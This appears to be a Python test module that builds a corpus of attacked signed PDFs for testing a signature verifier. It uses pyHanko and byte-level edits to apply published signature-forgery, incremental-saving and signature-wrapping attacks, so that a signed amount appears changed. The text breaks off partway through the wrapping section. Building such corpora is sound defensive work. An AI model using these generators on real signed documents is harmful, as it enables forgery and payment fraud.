"""Attacks on signed PDFs that a verifier must reject, and their allowed counterparts.

Every generator starts from a validly signed document (signed here with pyHanko, not
with signsvc, so the corpus does not depend on the code under test) and returns the
attacked file's bytes. The attack classes are those of:

- Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk, "1 Trillion Dollar Refund:
  How to Spoof PDF Signatures", ACM CCS 2019 (USF, ISA, SWA);
- Mainka, Mladenov, Rohlmann, "Shadow Attacks: Hiding and Replacing Content in Signed
  PDFs", NDSS 2021 (hide, replace, hide-and-replace);
- Rohlmann, Mladenov, Mainka, Schwenk, "Breaking the Specification: PDF Certification",
  IEEE S&P 2021 (evil annotation, sneaky signature).

Example::

    base = signed_base()                      # one page, "1.000.000 VND", signed
    forged = isa_same_object_number(base)     # an update renders "9.000.000 VND"
    assert GENUINE in base and FORGED in forged
    for attack in ATTACKS:                    # every attack, with what pyHanko says
        data = attack.build()

Each attack also changes what the page shows (:data:`GENUINE` becomes :data:`FORGED`),
so a verifier that accepts it would vouch for content the signer never saw. Besides
:data:`ATTACKS` there are :data:`IMPOSTORS` (intact signatures by look-alike
certificates) and the allowed counterparts (``allowed_*``). Generators
that need well-formed structure use pyHanko's ``IncrementalPdfFileWriter``; those whose
point is malformed structure do byte surgery, keeping every object at its offset
(same-length edits padded with spaces) so that only the attacked part is wrong.
"""

from __future__ import annotations

import functools
import hashlib
import io
import re
import tempfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Literal

from asn1crypto import cms
from asn1crypto import keys as asn1_keys
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import signers
from pyhanko.sign.fields import MDPPerm, SigSeedSubFilter
from pyhanko.sign.timestamps import TimeStamper
from pyhanko_certvalidator import ValidationContext
from pyhanko_certvalidator.registry import SimpleCertificateStore

from tests.pdfcheck import pyhanko_validate

ROOT = Path(__file__).resolve().parent.parent
PKI = ROOT / "certs_test"
GOV_ROOT = PKI / "gov-root-g2.crt.pem"
"""The trust anchor of every signer used here."""

GENUINE = b"1.000.000"
"""The amount the signer saw (ASCII in an uncompressed content stream)."""
FORGED = b"9.000.000"
"""What the attacked document shows instead; same length, so in-place edits keep
every object at its offset."""
SIGNING_TIME = datetime(2026, 5, 31, 9, 0, tzinfo=UTC)
"""Claimed signing time of the B-B signatures made here (/M): after the ``revoked``
leaf's revocation (2026-03-15), before the fixed validation time the tests use."""
VALIDATION_TIME = datetime(2026, 6, 1, 12, 0, tzinfo=UTC)
"""Fixed validation time for B-B documents: the certs_test CRLs' thisUpdate is
2026-06-01, every good leaf is valid 2025-01-01 to 2045-12-31."""


# --------------------------------------------------------------------------------------
# Hand-made PDFs (classic xref, uncompressed streams: the bytes are easy to reason about)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    """The body of a stream object with ``data`` and optional extra dictionary entries."""
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), extra, data)


def _xref_section(offsets: dict[int, int], *, with_free_head: bool) -> bytes:
    """Classic xref subsections (ISO 32000-1 §7.5.4), one per run of numbers."""
    entries = {n: b"%010d 00000 n \n" % off for n, off in offsets.items()}
    if with_free_head:
        entries[0] = b"0000000000 65535 f \n"
    out = bytearray(b"xref\n")
    numbers = sorted(entries)
    start = 0
    while start < len(numbers):
        end = start
        while end + 1 < len(numbers) and numbers[end + 1] == numbers[end] + 1:
            end += 1
        out += b"%d %d\n" % (numbers[start], end - start + 1)
        out += b"".join(entries[n] for n in numbers[start:end + 1])
        start = end + 1
    return bytes(out)


FILE_ID = b"<5349474e535643415454414b3a544f4e>"


def build_pdf(objects: list[tuple[int, bytes]], *, root: int = 1) -> bytes:
    """Objects in the given order, then a classic xref table and trailer.

    A number may appear twice: the xref points at the *last* definition, so the first
    one stays in the file, unreferenced (the shadow objects of hide-and-replace).
    Numbers missing from the list are free entries.
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, body in objects:
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size = max(offsets) + 1
    table = {n: offsets[n] for n in offsets}
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for n in range(1, size):
        out += (b"%010d 00000 n \n" % table[n]) if n in table else b"0000000000 00000 f \n"
    out += (b"trailer\n<< /Size %d /Root %d 0 R /ID [%s %s] >>\nstartxref\n%d\n%%%%EOF\n"
            % (size, root, FILE_ID, FILE_ID, xref))
    return bytes(out)


HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
TITLE = b"BT /F1 16 Tf 72 780 Td (QUYET DINH so 45/QD-UBND - TEST ONLY) Tj ET\n"


def amount_line(amount: bytes, y: int = 740) -> bytes:
    """Page content that shows the amount in Helvetica 12 at (72, y)."""
    return b"BT /F1 12 Tf 72 %d Td (Chi tra so tien: %s VND) Tj ET\n" % (y, amount)


def _page(resources: bytes = b"/Font << /F1 5 0 R >>", extra: bytes = b"") -> bytes:
    return (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << %s >> "
            b"/Contents 4 0 R %s>>" % (resources, extra))


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def base_document() -> bytes:
    """One A4 page: a decision title and the amount :data:`GENUINE`. Objects: 1 catalog,
    2 pages, 3 page, 4 content, 5 font."""
    return build_pdf([(1, _CATALOG), (2, _PAGES), (3, _page()),
                      (4, stream(TITLE + amount_line(GENUINE))), (5, HELVETICA)])


# --------------------------------------------------------------------------------------
# Signing with pyHanko


class _FixedTimePdfSigner(signers.PdfSigner):
    """pyHanko's PdfSigner with a chosen claimed signing time (/M), so B-B documents
    can be validated at a fixed time that comes after their signing."""

    def __init__(self, *args: object, signing_time: datetime, **kwargs: object) -> None:
        super().__init__(*args, **kwargs)  # type: ignore[arg-type]
        self._signing_time = signing_time

    def init_signing_session(self, pdf_out, existing_fields_only=False):  # type: ignore[no-untyped-def]
        session = super().init_signing_session(pdf_out, existing_fields_only)
        session.system_time = self._signing_time
        return session


@functools.cache
def pkcs12_signer(name: str) -> signers.SimpleSigner:
    """A pyHanko signer for ``certs_test/<name>.p12`` (password 1234)."""
    signer = signers.SimpleSigner.load_pkcs12(PKI / f"{name}.p12", passphrase=b"1234")
    assert signer is not None, name
    return signer


def sign(
    data: bytes,
    *,
    signer: str = "official-rsa2048",
    field: str = "Signature1",
    signing_time: datetime | None = SIGNING_TIME,
    certify: MDPPerm | None = None,
    timestamper: TimeStamper | None = None,
    validation_context: ValidationContext | None = None,
    strict: bool = True,
) -> bytes:
    """Sign ``data`` with pyHanko (PAdES subfilter ETSI.CAdES.detached).

    Args:
        signing_time: claimed time (/M); None for now (needed with a real TSA or
            embedded revocation data, which carry the real time).
        certify: make it a certification signature with this DocMDP permission.
        timestamper: add a signature time-stamp (PAdES B-T).
        validation_context: embed revocation data in a DSS (PAdES B-LT).
    """
    meta = signers.PdfSignatureMetadata(
        field_name=field,
        md_algorithm="sha256",
        subfilter=SigSeedSubFilter.PADES,
        certify=certify is not None,
        docmdp_permissions=certify or MDPPerm.FILL_FORMS,
        embed_validation_info=validation_context is not None,
        validation_context=validation_context,
    )
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=strict)
    if signing_time is None:
        pdf_signer = signers.PdfSigner(meta, pkcs12_signer(signer), timestamper=timestamper)
    else:
        pdf_signer = _FixedTimePdfSigner(meta, pkcs12_signer(signer), timestamper=timestamper,
                                         signing_time=signing_time)
    out = pdf_signer.sign_pdf(writer)
    return bytes(out.getvalue())


@functools.cache
def signed_base() -> bytes:
    """:func:`base_document` signed by ``official-rsa2048`` (B-B, /M = SIGNING_TIME):
    the starting point of most attacks."""
    return sign(base_document())


# --------------------------------------------------------------------------------------
# Byte surgery helpers


@dataclass(frozen=True)
class SigLayout:
    """Where the (last) signature dictionary's values sit in the file."""

    byte_range: tuple[int, int, int, int]
    br_slot: tuple[int, int]
    """From ``[`` to the end of the padding spaces pyHanko leaves after ``]``."""
    br_key: int
    """Offset of ``/ByteRange``."""
    contents: tuple[int, int]
    """The ``<...>`` hex string, delimiters included."""
    contents_key: int


def sig_layout(data: bytes, which: int = -1) -> SigLayout:
    """A signature dictionary written by pyHanko (``/Contents`` then ``/ByteRange``):
    the ``which``-th in file order, by default the last."""
    br = list(re.finditer(rb"/ByteRange\s*(\[\s*(\d+) (\d+) (\d+) (\d+)\s*\] *)", data))[which]
    ct = list(re.finditer(rb"/Contents\s*(<[0-9A-Fa-f]*>)", data[: br.start()]))[-1]
    values = (int(br.group(2)), int(br.group(3)), int(br.group(4)), int(br.group(5)))
    return SigLayout(byte_range=values, br_slot=br.span(1), br_key=br.start(),
                     contents=ct.span(1), contents_key=ct.start())


def replace_padded(data: bytes, start: int, end: int, new: bytes) -> bytes:
    """Put ``new`` in ``data[start:end]``, padded with spaces to the same length, so
    that no object moves and the xref stays right."""
    if len(new) > end - start:
        raise ValueError(f"{new[:40]!r}... does not fit in {end - start} bytes")
    return data[:start] + new.ljust(end - start, b" ") + data[end:]


def forge_in_place(data: bytes) -> bytes:
    """Show :data:`FORGED` instead of :data:`GENUINE`, editing the content stream in place
    (same length: /Length and the xref stay right)."""
    assert data.count(GENUINE) == 1
    return data.replace(GENUINE, FORGED)


def last_startxref(data: bytes) -> int:
    return int(list(re.finditer(rb"startxref\s+(\d+)", data))[-1].group(1))


def _last_trailer(data: bytes) -> bytes:
    return list(re.finditer(rb"trailer\s*<<(.*?)>>\s*startxref", data, re.S))[-1].group(1)


def _trailer_for_update(data: bytes, *, size: int, prev: int | None,
                        root: int | None = None) -> bytes:
    """A trailer like the last one, with a new /Size and /Prev (and /Root)."""
    old = _last_trailer(data)
    keep = [m.group(0) for m in re.finditer(rb"/(Root|Info) \d+ \d+ R|/ID\s*\[[^\]]*\]", old)]
    if root is not None:
        keep = [k for k in keep if not k.startswith(b"/Root")] + [b"/Root %d 0 R" % root]
    out = b"trailer\n<< /Size %d %s" % (size, b" ".join(keep))
    if prev is not None:
        out += b" /Prev %d" % prev
    return out + b" >>\n"


def _size(data: bytes) -> int:
    return int(re.search(rb"/Size (\d+)", _last_trailer(data)).group(1))  # type: ignore[union-attr]


def append_update(
    data: bytes,
    objects: dict[int, bytes],
    *,
    xref: bool = True,
    prev: bool = True,
    full_xref: bool = False,
    root: int | None = None,
) -> bytes:
    """Append an incremental update (ISO 32000-1 §7.5.6) defining ``objects``.

    Args:
        xref: write an xref section, trailer and startxref; False leaves the objects
            after ``%%EOF`` with nothing pointing at them (ISA variant 2).
        prev: link the new trailer to the previous xref with /Prev.
        full_xref: the new section lists every object of the document (with the
            offsets the previous sections give), so it stands alone without /Prev.
        root: a new /Root for the trailer.
    """
    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
    offsets: dict[int, int] = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if not xref:
        return bytes(out)
    if full_xref:
        offsets = {**object_offsets(data), **offsets}
    size = max(_size(data), max(offsets) + 1)
    at = len(out)
    out += _xref_section(offsets, with_free_head=full_xref)
    out += _trailer_for_update(data, size=size, prev=last_startxref(data) if prev else None,
                               root=root)
    out += b"startxref\n%d\n%%%%EOF\n" % at
    return bytes(out)


def object_offsets(data: bytes) -> dict[int, int]:
    """Offset of every in-use object, following the classic xref chain (startxref, then
    each trailer's /Prev) from the newest section to the oldest."""
    sections: list[dict[int, int]] = []
    pos: int | None = last_startxref(data)
    while pos is not None and len(sections) < 64:
        end = data.index(b"trailer", pos)
        sections.append(_parse_xref_lines(data[pos + len(b"xref"):end]))
        prev = re.match(rb"trailer\s*<<(.*?)>>", data[end:], re.S)
        found = re.search(rb"/Prev (\d+)", prev.group(1)) if prev else None
        pos = int(found.group(1)) if found else None
    out: dict[int, int] = {}
    for section in reversed(sections):
        out.update(section)
    return out


def serialize(obj: generic.PdfObject) -> bytes:
    """An object's body as pyHanko would write it (unencrypted)."""
    buf = io.BytesIO()
    obj.write_to_stream(buf, None)
    return buf.getvalue()


def _reader(data: bytes) -> PdfFileReader:
    return PdfFileReader(io.BytesIO(data), strict=False)


def _page_ref(data: bytes) -> generic.Reference:
    page = _reader(data).root["/Pages"]["/Kids"].raw_get(0)
    return page.reference  # type: ignore[no-any-return]


# --------------------------------------------------------------------------------------
# USF: universal signature forgery (Mladenov et al. 2019, §5.1)
#
# The attacker's document carries a signature dictionary whose /ByteRange or /Contents
# is missing, null or malformed (or a field whose /V leads nowhere), hoping the viewer
# skips the check and still shows "signed by ...". Every variant here also shows the
# forged amount. The edits stay in place: nothing else in the file is wrong.


def _usf_byterange(signed: bytes, value: bytes | None) -> bytes:
    lay = sig_layout(signed)
    if value is None:  # the key itself removed
        data = replace_padded(signed, lay.br_key, lay.br_slot[1], b"")
    else:
        data = replace_padded(signed, *lay.br_slot, value)
    return forge_in_place(data)


def usf_byterange_missing(signed: bytes) -> bytes:
    """USF: no /ByteRange in the signature dictionary."""
    return _usf_byterange(signed, None)


def usf_byterange_null(signed: bytes) -> bytes:
    """USF: ``/ByteRange null``."""
    return _usf_byterange(signed, b"null")


def usf_byterange_empty(signed: bytes) -> bytes:
    """USF: ``/ByteRange []``."""
    return _usf_byterange(signed, b"[]")


def usf_byterange_three_numbers(signed: bytes) -> bytes:
    """USF: a /ByteRange with three integers instead of four."""
    _, b, c, _ = sig_layout(signed).byte_range
    return _usf_byterange(signed, b"[0 %d %d]" % (b, c))


def usf_byterange_negative(signed: bytes) -> bytes:
    """USF: a negative length in /ByteRange."""
    _, b, c, d = sig_layout(signed).byte_range
    return _usf_byterange(signed, b"[0 %d %d -%d]" % (b, c, d))


def usf_byterange_reals(signed: bytes) -> bytes:
    """USF: /ByteRange of real numbers (ISO 32000-1 Table 252 requires integers)."""
    _, b, c, d = sig_layout(signed).byte_range
    return _usf_byterange(signed, b"[0.0 %d.5 %d.0 %d.0]" % (b, c, d))


def usf_byterange_strings(signed: bytes) -> bytes:
    """USF: /ByteRange of literal strings that look like the numbers."""
    _, b, c, d = sig_layout(signed).byte_range
    return _usf_byterange(signed, b"[(0) (%d) (%d) (%d)]" % (b, c, d))


def usf_byterange_not_from_zero(signed: bytes) -> bytes:
    """USF: the first range does not start at 0 (the header is not signed)."""
    _, b, c, d = sig_layout(signed).byte_range
    return _usf_byterange(signed, b"[9 %d %d %d]" % (b - 9, c, d))


def usf_byterange_overlapping(signed: bytes) -> bytes:
    """USF: the second range starts inside the first (and swallows /Contents)."""
    _, b, c, d = sig_layout(signed).byte_range
    start = b - 100
    return _usf_byterange(signed, b"[0 %d %d %d]" % (b, start, c + d - start))


def usf_byterange_beyond_eof(signed: bytes) -> bytes:
    """USF: the second range runs past the end of the file."""
    _, b, c, d = sig_layout(signed).byte_range
    return _usf_byterange(signed, b"[0 %d %d %d]" % (b, c, d + 4096))


def usf_contents_missing(signed: bytes) -> bytes:
    """USF: no /Contents in the signature dictionary."""
    lay = sig_layout(signed)
    return forge_in_place(replace_padded(signed, lay.contents_key, lay.contents[1], b""))


def usf_contents_empty(signed: bytes) -> bytes:
    """USF: ``/Contents <>``."""
    lay = sig_layout(signed)
    return forge_in_place(replace_padded(signed, *lay.contents, b"<>"))


def usf_contents_null(signed: bytes) -> bytes:
    """USF: ``/Contents null``."""
    lay = sig_layout(signed)
    return forge_in_place(replace_padded(signed, *lay.contents, b"null"))


def usf_contents_literal_string(signed: bytes) -> bytes:
    """USF: the CMS as a literal string ``( ... )`` instead of the hex string the
    /ByteRange gap must be (ISO 32000-1 §12.8.1: "shall be a hexadecimal string")."""
    lay = sig_layout(signed)
    der = bytes.fromhex(signed[lay.contents[0] + 1:lay.contents[1] - 1].decode()).rstrip(b"\0")
    escaped = der.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
    escaped = escaped.replace(b"\r", b"\\r")
    return forge_in_place(replace_padded(signed, *lay.contents, b"(" + escaped + b")"))


def usf_field_value_dangling(signed: bytes) -> bytes:
    """USF: the signature field's /V points to an object that does not exist."""
    used = {int(n) for n in re.findall(rb"(?m)^(\d+) 0 obj", signed)}
    matches = list(re.finditer(rb"/FT /Sig(?:.|\n)*?/V (\d+) 0 R", signed))
    m = matches[-1]
    digits = len(m.group(1))
    free = next(n for n in range(10 ** (digits - 1), 10 ** digits) if n not in used)
    data = signed[: m.start(1)] + b"%d" % free + signed[m.end(1):]
    return forge_in_place(data)


# --------------------------------------------------------------------------------------
# ISA: incremental saving attack (Mladenov et al. 2019, §5.2)


def _forged_content(signed: bytes) -> bytes:
    """The page's content stream bytes with the forged amount."""
    page = _reader(signed).root["/Pages"]["/Kids"][0]
    data: bytes = page["/Contents"].data
    assert GENUINE in data
    return data.replace(GENUINE, FORGED)


def isa_update_with_xref(signed: bytes) -> bytes:
    """ISA variant 1: a well-formed incremental update (pyHanko's writer) adds a new
    content stream and points the page at it; new xref section, trailer with /Prev."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    content = writer.add_object(generic.StreamObject(stream_data=_forged_content(signed)))
    page = writer.root["/Pages"]["/Kids"][0]
    page["/Contents"] = content
    writer.update_container(page)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def isa_update_without_xref(signed: bytes) -> bytes:
    """ISA variant 2: the page and its content redefined after ``%%EOF`` with no xref,
    trailer or startxref: viewers that rebuild the object table by scanning take the
    last definition."""
    page_ref = _page_ref(signed)
    contents = _reader(signed).root["/Pages"]["/Kids"][0].raw_get("/Contents")
    return append_update(signed, {contents.idnum: stream(_forged_content(signed)),
                                  page_ref.idnum: _page_body(signed)}, xref=False)


def _page_body(signed: bytes) -> bytes:
    page = _reader(signed).root["/Pages"]["/Kids"][0]
    return serialize(page)


def isa_page_and_catalog(signed: bytes) -> bytes:
    """ISA: an update that redefines the catalog (new page tree) and the signed page
    object (new content); the new page keeps the signature widget."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    content = writer.add_object(generic.StreamObject(stream_data=_forged_content(signed)))
    old_page = writer.root["/Pages"]["/Kids"][0]
    old_page["/Contents"] = content
    writer.update_container(old_page)
    new_page = generic.DictionaryObject({k: v for k, v in old_page.items() if k != "/Parent"})
    new_page_ref = writer.add_object(new_page)
    pages_ref = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Pages"),
        generic.NameObject("/Kids"): generic.ArrayObject([new_page_ref]),
        generic.NameObject("/Count"): generic.NumberObject(1),
    }))
    new_page[generic.NameObject("/Parent")] = pages_ref
    writer.root[generic.NameObject("/Pages")] = pages_ref
    writer.update_root()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def isa_same_object_number(signed: bytes) -> bytes:
    """ISA: the signed content stream object redefined under its own number (raw
    update: the object, an xref subsection for it, trailer with /Prev)."""
    contents = _reader(signed).root["/Pages"]["/Kids"][0].raw_get("/Contents")
    return append_update(signed, {contents.idnum: stream(_forged_content(signed))})


def isa_xref_without_prev(signed: bytes) -> bytes:
    """ISA: the redefinition comes with a complete xref table and a trailer *without*
    /Prev, so the file's xref chain has a single section: a verifier that counts
    revisions through /Prev sees no update after the signature."""
    contents = _reader(signed).root["/Pages"]["/Kids"][0].raw_get("/Contents")
    return append_update(signed, {contents.idnum: stream(_forged_content(signed))},
                         prev=False, full_xref=True)


def isa_page_added(signed: bytes) -> bytes:
    """ISA: an update that adds a second page (the forged terms) to the signed page tree,
    leaving page 1 untouched."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    pages = writer.root["/Pages"]
    old_page = pages["/Kids"][0]
    content = writer.add_object(generic.StreamObject(
        stream_data=TITLE + amount_line(FORGED) + b"BT /F1 12 Tf 72 720 Td (Phu luc) Tj ET"))
    page = generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Page"),
        generic.NameObject("/Parent"): writer.root.raw_get("/Pages"),
        generic.NameObject("/MediaBox"): old_page["/MediaBox"],
        generic.NameObject("/Resources"): old_page["/Resources"],
        generic.NameObject("/Contents"): content,
    })
    pages["/Kids"].append(writer.add_object(page))
    pages[generic.NameObject("/Count")] = generic.NumberObject(2)
    writer.update_container(pages)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def isa_open_action_javascript(signed: bytes) -> bytes:
    """ISA: an update that gives the catalog an /OpenAction running JavaScript (which
    could, e.g., rewrite the amount on display), nothing else."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    js = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/S"): generic.NameObject("/JavaScript"),
        generic.NameObject("/JS"): generic.TextStringObject(
            "this.getField('x'); app.alert('9.000.000 VND');"),
    }))
    writer.root[generic.NameObject("/OpenAction")] = js
    writer.update_root()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def isa_object_stream(signed: bytes) -> bytes:
    """ISA hidden from byte scanners: the update is an xref *stream* section whose
    redefined page object sits, Flate-compressed, inside an object stream (ISO 32000-1
    §7.5.7-8), and the forged content stream is compressed too: no ``3 0 obj`` and no
    amount appear in the appended bytes."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    writer.stream_xrefs = True
    objstm = writer.prepare_object_stream(compress=True)
    content = generic.StreamObject(stream_data=_forged_content(signed))
    content.compress()
    content_ref = writer.add_object(content)
    page_ref = _page_ref_in(writer)
    page = page_ref.get_object()
    page[generic.NameObject("/Contents")] = content_ref
    # add_object() only takes fresh numbers; redefining an existing one inside an object
    # stream goes through the stream itself (pyHanko's ObjectStream API).
    objstm.add_object(page_ref.idnum, page)
    writer.objs_in_streams[page_ref.idnum] = page
    out = io.BytesIO()
    writer.write(out)
    data = out.getvalue()
    appended = data[len(signed):]
    assert FORGED not in appended
    assert not re.search(rb"(?m)^%d 0 obj" % page_ref.idnum, appended)
    return data


def isa_dss_smuggle(signed: bytes) -> bytes:
    """ISA dressed as validation data: the update adds a /DSS whose /Certs lists the
    page's content stream object, redefined with the forged amount. A verifier that
    waves through "objects reachable from the DSS" lets the content change pass."""
    reader = _reader(signed)
    catalog = reader.root
    contents = catalog["/Pages"]["/Kids"][0].raw_get("/Contents")
    catalog_body = serialize(catalog)
    catalog_body = catalog_body[:-2].rstrip() + b"\n/DSS << /Certs [ %d 0 R ] >>\n>>" % (
        contents.idnum)
    return append_update(signed, {contents.idnum: stream(_forged_content(signed)),
                                  reader.root_ref.idnum: catalog_body})


def isa_with_second_signature(signed: bytes) -> bytes:
    """ISA by an insider: the amount is changed and a second, valid signature (the
    organisation's, org-omon) is added in the same revision. The second signature is
    genuinely valid; the first must report the change."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    content = writer.add_object(generic.StreamObject(stream_data=_forged_content(signed)))
    page = writer.root["/Pages"]["/Kids"][0]
    page[generic.NameObject("/Contents")] = content
    writer.update_container(page)
    meta = signers.PdfSignatureMetadata(field_name="Signature2", md_algorithm="sha256",
                                        subfilter=SigSeedSubFilter.PADES)
    pdf_signer = _FixedTimePdfSigner(meta, pkcs12_signer("org-omon"),
                                     signing_time=SIGNING_TIME)
    return bytes(pdf_signer.sign_pdf(writer).getvalue())


def isa_trailer_root_swap(signed: bytes) -> bytes:
    """ISA: the update's trailer names a *new* catalog (/Root), with a new page tree
    and page; none of the signed objects is redefined. The new catalog keeps the
    AcroForm, so the signature is still found."""
    reader = _reader(signed)
    catalog = reader.root
    n = _size(signed)
    catalog_body = re.sub(rb"/Pages \d+ 0 R", b"/Pages %d 0 R" % (n + 1), serialize(catalog))
    page_body = serialize(catalog["/Pages"]["/Kids"][0])
    page_body = re.sub(rb"/Parent \d+ 0 R", b"/Parent %d 0 R" % (n + 1), page_body)
    page_body = re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % (n + 3), page_body)
    return append_update(signed, {
        n: catalog_body,
        n + 1: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (n + 2),
        n + 2: page_body,
        n + 3: stream(_forged_content(signed)),
    }, root=n)


def isa_stowaway_in_allowed_update(certified: bytes) -> bytes:
    """ISA riding on an allowed update: the form is filled (permitted by DocMDP P=2),
    and the same update also carries a redefinition of the page's content stream that
    no xref entry lists (offsets of the update's real objects shifted to make room).
    Readers that follow the xref ignore it; readers that rebuild the object table by
    scanning take it as the newest definition of the content stream."""
    filled = allowed_form_fill(certified)
    contents = _reader(certified).root["/Pages"]["/Kids"][0].raw_get("/Contents")
    insert = b"%d 0 obj\n%s\nendobj\n" % (contents.idnum, stream(_forged_content(certified)))
    at = len(certified)
    n = last_startxref(filled)
    section_end = filled.index(b"trailer", n)
    entries = _parse_xref_lines(filled[n + len(b"xref"):section_end])
    shifted = {k: (v + len(insert) if v >= at else v) for k, v in entries.items()}
    section = _xref_section(shifted, with_free_head=0 in entries)
    tail = filled[section_end:filled.rindex(b"startxref")]
    return (filled[:at] + insert + filled[at:n] + section + tail
            + b"startxref\n%d\n%%%%EOF\n" % (n + len(insert)))


def append_xref_stream_update(
    data: bytes,
    objects: dict[int, bytes],
    *,
    unlisted: bytes = b"",
    filter_name: bytes | None = b"/ASCIIHexDecode",
) -> bytes:
    """Append an update whose cross-reference section is an xref *stream* (ISO 32000-1
    §7.5.8), encoded with a standard filter (§7.4.2; ASCIIHexDecode by default) rather
    than the usual FlateDecode.

    Args:
        objects: objects the section lists.
        unlisted: raw bytes placed before them that the section does not list.
    """
    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
    out += unlisted
    offsets: dict[int, int] = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_number = max(_size(data), max(offsets, default=0) + 1)
    at = offsets[xref_number] = len(out)
    numbers = sorted(offsets)
    rows = b"".join(b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00\x00" for n in numbers)
    if filter_name == b"/ASCIIHexDecode":
        rows = rows.hex().encode() + b">"
    elif filter_name is not None:
        raise ValueError(f"no encoder for {filter_name!r}")
    old = _last_trailer(data)
    keep = b" ".join(m.group(0) for m in re.finditer(
        rb"/(Root|Info) \d+ \d+ R|/ID\s*\[[^\]]*\]", old))
    entries = (b"/Type /XRef /W [1 4 2] /Size %d /Index [%s] /Prev %d %s "
               % (xref_number + 1, b" ".join(b"%d 1" % n for n in numbers),
                  last_startxref(data), keep))
    if filter_name is not None:
        entries += b"/Filter " + filter_name + b" "
    out += b"%d 0 obj\n%s\nendobj\n" % (xref_number, stream(rows, entries))
    out += b"startxref\n%d\n%%%%EOF\n" % at
    return bytes(out)


def isa_stowaway_hex_xref_stream(signed: bytes) -> bytes:
    """ISA stowaway in an update that changes nothing listed: an xref stream (encoded
    with ASCIIHexDecode, a standard filter) that lists only itself, preceded by a
    redefinition of the page's content stream that it does not list. pyHanko calls
    the update harmless; readers that rebuild the object table by scanning show the
    forged amount. (The filter makes a reader that only knows FlateDecode fall back to
    another parser; the stowaway must be found on every path.)"""
    contents = _reader(signed).root["/Pages"]["/Kids"][0].raw_get("/Contents")
    stowaway = b"%d 0 obj\n%s\nendobj\n" % (contents.idnum, stream(_forged_content(signed)))
    return append_xref_stream_update(signed, {}, unlisted=stowaway)


def isa_without_xref_after_hex_xref_stream(signed: bytes) -> bytes:
    """ISA variant 2 (objects after %%EOF, no xref) behind an innocuous update whose
    xref stream is ASCIIHex-encoded."""
    return isa_update_without_xref(append_xref_stream_update(signed, {}))


# --------------------------------------------------------------------------------------
# SWA: signature wrapping (Mladenov et al. 2019, §5.3)
#
# pyHanko writes /ByteRange after /Contents, so the /ByteRange value lies in the second
# signed range. The attacker copies that second range (the original tail, up to and
# including %%EOF) unchanged to a new place, changes the real /ByteRange to point at the
# copy and fills the enlarged gap with its own objects. The bytes the /ByteRange names
# are exactly the bytes the signer signed: the digest and the CMS signature verify.


def _original_xref_section(signed: bytes) -> bytes:
    """The last xref section's subsection lines (without ``xref`` and the trailer)."""
    n = last_startxref(signed)
    end = signed.index(b"trailer", n)
    return signed[n + len(b"xref\n"):end]


def _parse_xref_lines(section: bytes) -> dict[int, int]:
    lines = section.split(b"\n")
    out: dict[int, int] = {}
    i = 0
    while i < len(lines):
        head = lines[i].split()
        if len(head) == 2:
            first, count = int(head[0]), int(head[1])
            for k in range(count):
                off, _, kind = lines[i + 1 + k].split()
                if kind == b"n":
                    out[first + k] = int(off)
            i += 1 + count
        else:
            i += 1
    return out


def swa_relocated_tail(signed: bytes) -> bytes:
    """SWA variant 1: /ByteRange ``[0 b c* d]`` with the original tail copied to the end
    of the file, so the ranges still reach EOF ("entire file signed").

    The tail's ``startxref`` names the offset where the original last xref was; the
    attacker puts its own xref section exactly there, inside the gap, listing a
    forged content stream (also in the gap) for the page.
    """
    lay = sig_layout(signed)
    _, b, c, d = lay.byte_range
    assert c + d == len(signed)
    n = last_startxref(signed)
    tail = signed[c:]
    head = signed[c:n]  # rest of the signature dict and later objects, up to the xref
    contents = _reader(signed).root["/Pages"]["/Kids"][0].raw_get("/Contents")
    entries = _parse_xref_lines(_original_xref_section(signed))
    old_trailer = signed[signed.index(b"trailer", n):signed.index(b"startxref", n)]
    forged = b"%d 0 obj\n%s\nendobj\n" % (contents.idnum, stream(_forged_content(signed)))

    def xref_at(forged_offset: int) -> bytes:
        table = {**entries, contents.idnum: forged_offset}
        return _xref_section(table, with_free_head=False) + old_trailer

    probe = xref_at(0)
